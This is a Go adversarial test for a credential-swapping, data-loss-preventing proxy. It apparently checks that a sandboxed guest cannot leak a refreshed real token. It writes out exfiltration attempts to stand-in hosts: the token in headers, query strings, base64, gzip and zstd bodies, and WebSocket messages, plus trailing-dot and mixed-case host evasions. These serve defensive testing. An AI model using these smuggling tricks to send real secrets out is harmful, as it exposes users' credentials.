package netfilter

import (
	"bytes"
	"compress/gzip"
	"crypto/tls"
	"encoding/base64"
	"io"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/vibedom/vibedom/netfilter/internal/mitmtest"
	"github.com/vibedom/vibedom/netfilter/mitm"

	"github.com/klauspost/compress/zstd"

	"github.com/vibedom/vibedom/credentials"
	"github.com/vibedom/vibedom/dlp"
	"github.com/vibedom/vibedom/logredact"
	"golang.org/x/net/websocket"
)

// TestLoginSwapAdversarial (issue 21, adversarial): a guest that holds a
// real token the host refreshed mid-session (the DLP's known values, fixed
// at the start, do not hold it) cannot send it anywhere: not in a header,
// the URL, a body (raw or base64) or a WebSocket message, to another host or to the API host;
// and a request to the token endpoint host spelled with a trailing dot or
// in another case is answered by vibedom, never forwarded; a response
// echoing it (header, gzip body, event stream) is scrubbed. Both engines.
func TestLoginSwapAdversarial(t *testing.T) {
	t.Parallel()
	real1 := "sk-ant-oat01-" + strings.Repeat("Rea1", 20) + "AA" // gitleaks:allow
	// An opaque token no recognizer knows (a vendor may change its shape).
	real2 := "vQ" + strings.Repeat("rEa2tOkN", 10) + "x9"      // gitleaks:allow
	ph := "sk-ant-oat01-" + strings.Repeat("PhAc", 20) + "BB"  // gitleaks:allow
	rph := "sk-ant-ort01-" + strings.Repeat("PhRe", 20) + "BB" // gitleaks:allow
	forEngines(t, func(t *testing.T, kind string) {
		cred := &fakeLogin{real: []string{real1}, access: []string{ph}, refresh: rph}
		eng, err := dlp.New(dlp.Config{Secrets: []dlp.Secret{{Value: real1, Source: "login"}, {Value: ph, Source: "placeholder"}}})
		if err != nil {
			t.Fatal(err)
		}
		filter := NewSwapFilter(&DLPFilter{Engine: eng}, []credentials.Swap{{Name: "claude login", Host: "api.test", Header: "authorization", Dynamic: cred}})
		v := newEngineEnv(t, kind, mitmtest.Rules, func(c *mitm.EngineConfig) { c.Filter = filter })
		v.log.SetRedactor(func(s string) string { // as a session's: credentials.Session.Redact, then the DLP
			for _, r := range cred.Secrets() {
				s = strings.ReplaceAll(s, r, "[R]")
			}
			return logredact.LogRedactor(eng)(s)
		})
		var mu sync.Mutex
		var leaked []string
		var tokenHits int
		record := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			var body io.Reader = r.Body
			switch r.Header.Get("Content-Encoding") {
			case "gzip":
				if zr, err := gzip.NewReader(r.Body); err == nil {
					body = zr
				}
			case "zstd":
				if zr, err := zstd.NewReader(r.Body); err == nil {
					body = zr
				}
			}
			b, _ := io.ReadAll(body)
			var all strings.Builder
			all.WriteString(r.URL.String())
			for n, vs := range r.Header {
				if n == "Authorization" && r.Host == "api.test" {
					continue // where the swap puts it
				}
				all.WriteString(n + ": " + strings.Join(vs, ",") + "\n")
			}
			all.Write(b)
			mu.Lock()
			if s := all.String(); strings.Contains(s, real2) || strings.Contains(s, base64.StdEncoding.EncodeToString([]byte(real2))) {
				leaked = append(leaked, r.Host+r.URL.Path)
			}
			mu.Unlock()
		})
		v.UpstreamTLS("api.test", 443, v.UpCA, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			switch r.URL.Path {
			case "/echo-gzip":
				w.Header().Set("X-Echo", real2)
				w.Header().Set("Content-Encoding", "gzip")
				zw := gzip.NewWriter(w)
				io.WriteString(zw, `{"token":"`+real2+`"}`)
				zw.Close()
			case "/echo-sse":
				w.Header().Set("Content-Type", "text/event-stream")
				io.WriteString(w, "event: a\ndata: {\"t\":\""+real2[:30]+"\"}\n\n")
				w.(http.Flusher).Flush()
				io.WriteString(w, "event: b\ndata: {\"t\":\""+real2+"\"}\n\n")
			default:
				record(w, r)
			}
		}))
		v.UpstreamTLS("x.wild.test", 443, v.UpCA, record)
		v.UpstreamTLS("ws.wild.test", 443, v.UpCA, websocket.Handler(func(ws *websocket.Conn) {
			for {
				var msg string
				if websocket.Message.Receive(ws, &msg) != nil {
					return
				}
				mu.Lock()
				if strings.Contains(msg, real2) {
					leaked = append(leaked, "ws.wild.test websocket")
				}
				mu.Unlock()
				websocket.Message.Send(ws, "ok")
			}
		}))
		v.UpstreamTLS("token.wild.test", 443, v.UpCA, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			mu.Lock()
			tokenHits++
			mu.Unlock()
		}))
		cred.mu.Lock()
		cred.real = append(cred.real, real2) // the host refreshed
		cred.mu.Unlock()
		c := &http.Client{Transport: v.GuestTransport(false)}
		gz := func(s string) string {
			var b bytes.Buffer
			w := gzip.NewWriter(&b)
			io.WriteString(w, s)
			w.Close()
			return b.String()
		}
		zst := func(s string) string {
			w, _ := zstd.NewWriter(nil)
			defer w.Close()
			return string(w.EncodeAll([]byte(s), nil))
		}
		b64 := base64.StdEncoding.EncodeToString([]byte(real2))
		for _, r := range []struct{ name, url, hdr, body string }{
			{"in a header to another host", "https://x.wild.test/h", "X-Leak: " + real2, "{}"},
			{"as a header's name", "https://x.wild.test/hn", "X-" + real2 + ": 1", "{}"},
			{"in a query to another host", "https://x.wild.test/q?t=" + url.QueryEscape(real2), "", "{}"},
			{"in a body to another host", "https://x.wild.test/b", "", `{"t":"` + real2 + `"}`},
			{"base64 in a body to another host", "https://x.wild.test/b64", "", `{"t":"` + b64 + `"}`},
			{"gzip body to another host", "https://x.wild.test/gz", "Content-Encoding: gzip", gz(`{"t":"` + real2 + `"}`)},
			{"zstd body to another host", "https://x.wild.test/zst", "Content-Encoding: zstd", zst(`{"t":"` + real2 + `"}`)},
			{"in a body to the API host", "https://api.test/v1/messages", "", `{"t":"` + real2 + `"}`},
		} {
			req, _ := http.NewRequestWithContext(t.Context(), "POST", r.url, strings.NewReader(r.body))
			req.Header.Set("Content-Type", "application/json")
			if r.hdr != "" {
				n, val, _ := strings.Cut(r.hdr, ": ")
				req.Header.Set(n, val)
			}
			if strings.HasPrefix(r.url, "https://api.test/") {
				req.Header.Set("Authorization", "Bearer "+ph)
			}
			resp, err := c.Do(req)
			if err != nil {
				continue // refused: fine
			}
			io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
		}
		// In a WebSocket message.
		tc := tls.Client(v.GuestConn("ws.wild.test", 443), &tls.Config{ServerName: "ws.wild.test", RootCAs: v.CA.Pool(), NextProtos: []string{"http/1.1"}})
		cfg, _ := websocket.NewConfig("wss://ws.wild.test/ws", "https://ws.wild.test/")
		if ws, err := websocket.NewClient(cfg, tc); err == nil {
			if websocket.Message.Send(ws, `{"t":"`+real2+`"}`) == nil {
				var got string
				websocket.Message.Receive(ws, &got) // the upstream saw the message (or the proxy cut it)
			}
			ws.Close()
		}
		for _, host := range []string{"token.wild.test.", "TOKEN.Wild.Test"} {
			req, _ := http.NewRequestWithContext(t.Context(), "POST", "https://"+host+"/v1/oauth/token",
				strings.NewReader(`{"grant_type":"refresh_token","refresh_token":"`+rph+`"}`))
			if resp, err := c.Do(req); err == nil {
				io.Copy(io.Discard, resp.Body)
				resp.Body.Close()
			}
		}
		// Over HTTP/2: the placeholder in another header is refused, in
		// Authorization swapped.
		c2 := &http.Client{Transport: v.GuestTransport(true)}
		for _, h := range []struct {
			name string
			want int
		}{{"X-Other", http.StatusForbidden}, {"Authorization", http.StatusOK}} {
			req, _ := http.NewRequestWithContext(t.Context(), "GET", "https://api.test/h2", nil)
			req.Header.Set(h.name, "Bearer "+ph)
			resp, err := c2.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
			if resp.StatusCode != h.want || resp.ProtoMajor != 2 {
				t.Errorf("HTTP/2, the placeholder in %s: %s %d, want %d", h.name, resp.Proto, resp.StatusCode, h.want)
			}
		}
		// Responses echoing the refreshed token: a header, a gzip body, an
		// event stream.
		for _, path := range []string{"/echo-gzip", "/echo-sse"} {
			req, _ := http.NewRequestWithContext(t.Context(), "GET", "https://api.test"+path, nil)
			req.Header.Set("Authorization", "Bearer "+ph)
			resp, err := c.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			b, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			if strings.Contains(string(b), real2) || strings.Contains(resp.Header.Get("X-Echo"), real2) {
				t.Errorf("%s: the refreshed token reached the guest", path)
			}
		}
		files, _ := filepath.Glob(filepath.Join(v.logDir, "*"))
		for _, f := range files {
			b, _ := os.ReadFile(f)
			if strings.Contains(strings.ToLower(string(b)), strings.ToLower(real2)) {
				t.Errorf("%s holds the refreshed token", f)
			}
		}
		mu.Lock()
		defer mu.Unlock()
		if len(leaked) > 0 {
			t.Errorf("the refreshed real token reached upstream at %q", leaked)
		}
		if tokenHits != 0 {
			t.Errorf("the token endpoint host was reached %d times from the guest", tokenHits)
		}
	})
}
